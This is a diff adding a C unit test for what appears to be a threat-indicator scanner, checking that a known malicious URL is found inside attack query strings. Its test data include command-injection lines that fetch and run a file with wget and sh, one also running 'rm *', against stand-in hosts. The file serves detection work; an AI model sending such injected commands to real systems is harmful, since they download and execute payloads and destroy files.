@@ -255,6 +255,61 @@ url__is_found_with_percent_encoding_by_every_kernel(void **state)
 	wt_close(&t);
 }
 
+/* As commands stand in the queries of attacks: '+' and "%20" are blanks there, before a URL and behind it. */
+static void
+url__is_found_between_blanks_of_a_query_by_every_kernel(void **state)
+{
+	static const char *const hosts[] = { "cmd.example", "198.51.100.9:8080", "198.51.100.9" };
+	static const char *const lines[] = { "/r?c=wget+http://HOST/M.m", "/r?c=rm+*;wget+http://HOST/M.m+-O+/tmp/x;sh",
+		"/r?c=wget+http://HOST/M.m;sh", "/r?c=wget+http://HOST/M.m&x=1", "/r?c=wget+http://HOST/M.m%3bsh",
+		"/r?c=wget%20http://HOST/M.m", "/r?c=wget%20http://HOST/M.m%20-O", "/r?c=(wget%20http://HOST/M.m%7csh)",
+		"/r?c=%22http://HOST/M.m%22", "/r?c=a%20http%3A%2F%2FHOST%2FM.m%20-O",
+		"/r?c=wget+http%3a%2f%2fHOST%2fM.m+-O", "git+http://HOST/M.m" };
+	static const char *const others[] = { "/r?c=wget+http://HOST/M.mx+-O", "/r?c=wget+http://HOST/M.m/x",
+		"/r?c=wget%20http://HOST/M.m%2fx", "/r?u=http://HOST/M.m+x", "/r?u=http://HOST/M.m%20x",
+		"http://HOST/M.m+x", "http://HOST/M.m%20x", "/r?c=wget+ahttp://HOST/M.m", "/r?c=wget%2http://HOST/M.m",
+		"/r?c=a%20http%3A%2F%2FHOST%2FM.m%2520-O" };
+	char text[3 * 66 * 24 * 140];
+	const ac_scan_kernel *kernel;
+	accord_err err = { 0 };
+	size_t n = 0;
+	wt t;
+
+	(void)state;
+	wt_open(&t);
+	for (size_t h = 0; h < AC_COUNT(hosts); h++) {
+		char url[64];
+
+		(void)snprintf(url, sizeof(url), "http://%s/M.m", hosts[h]);
+		wt_value(&t, url + 7, AC_VALUE_URL, url);
+		for (size_t i = 0; i < 66; i++) {
+			for (size_t k = 0; k < AC_COUNT(lines) + AC_COUNT(others); k++) {
+				size_t known = AC_COUNT(lines);
+				const char *line = k < known ? lines[k] : others[k - known],
+					   *host = strstr(line, "HOST");
+
+				n += (size_t)snprintf(text + n, sizeof(text) - n, "%*s%.*s%s%s\n", (int)i, "",
+				    (int)(host - line), line, hosts[h], host + 4);
+			}
+		}
+	}
+	wt_build(&t);
+	for (size_t i = 0; (kernel = ac_scan_kernel_at(i)) != NULL; i++) {
+		ac_watch_sink sink = { wt_on_hit, wt_on_held, &t };
+		ac_watch *w = ac_watch_open(t.index, AC_S("x"), t.as_of, &sink);
+		ac_watch_counts counts;
+
+		assert_non_null(w);
+		ac_watch_use_kernel(w, kernel);
+		assert_int_equal(ac_watch_feed(w, (ac_str){ text, n }, &err), 0);
+		assert_int_equal(ac_watch_end(w, &err), 0);
+		ac_watch_count(w, &counts);
+		assert_int_equal(counts.hits, AC_COUNT(hosts) * 66 * AC_COUNT(lines));
+		ac_watch_close(w);
+	}
+	wt_close(&t);
+}
+
 static void
 open_letters(wt *t)
 {
@@ -383,6 +438,7 @@ main(void)
 		cmocka_unit_test(url__is_found_with_percent_encoding_by_every_kernel),
 		cmocka_unit_test(url__has_letters_beyond_ascii_with_and_without_percent_encoding),
 		cmocka_unit_test(url__is_found_however_much_of_it_is_percent_encoded),
+		cmocka_unit_test(url__is_found_between_blanks_of_a_query_by_every_kernel),
 		cmocka_unit_test(domain__is_one_in_any_case_with_its_subdomains),
 		cmocka_unit_test(email__is_one_in_any_case_and_its_domain_counts_too),
 		cmocka_unit_test(url__is_compared_as_a_whole),
